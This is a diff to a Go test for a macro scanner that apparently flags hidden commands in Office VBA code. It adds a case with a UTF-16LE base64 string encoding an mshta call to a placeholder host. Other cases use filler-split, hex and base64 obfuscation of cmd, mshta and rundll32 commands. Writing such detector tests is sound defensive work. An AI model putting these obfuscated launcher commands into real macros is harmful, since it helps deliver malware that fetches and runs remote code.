@@ -61,6 +61,7 @@ func TestMacroMarks(t *testing.T) {
 		{"a replaced filler", "Sub A()\n x = Replace(\"cm##d.e##xe /##c d##ir\", \"##\", \"\")\nEnd Sub\n", "macro macro_execute macro_hidden"},
 		{"a command in hexadecimal", "Sub A()\n x = \"" + hex.EncodeToString([]byte("mshta.exe http://example.test/a")) + "\"\nEnd Sub\n", "macro macro_hidden"},
 		{"a command in base64", "Sub A()\n x = \"" + base64.StdEncoding.EncodeToString([]byte("rundll32.exe example,Start")) + "\"\nEnd Sub\n", "macro macro_hidden"},
+		{"a command for PowerShell", "Sub A()\n x = \"" + base64.StdEncoding.EncodeToString(utf16le("mshta.exe https://example.test/")) + "\"\nEnd Sub\n", "macro macro_hidden"},
 		{"a digest", "Sub A()\n x = \"0123456789abcdef0123456789abcdef0123456789abcdef\"\nEnd Sub\n", "macro"},
 	} {
 		got := open(t, "vbaProject.bin", unpacktest.VBA(c.source))
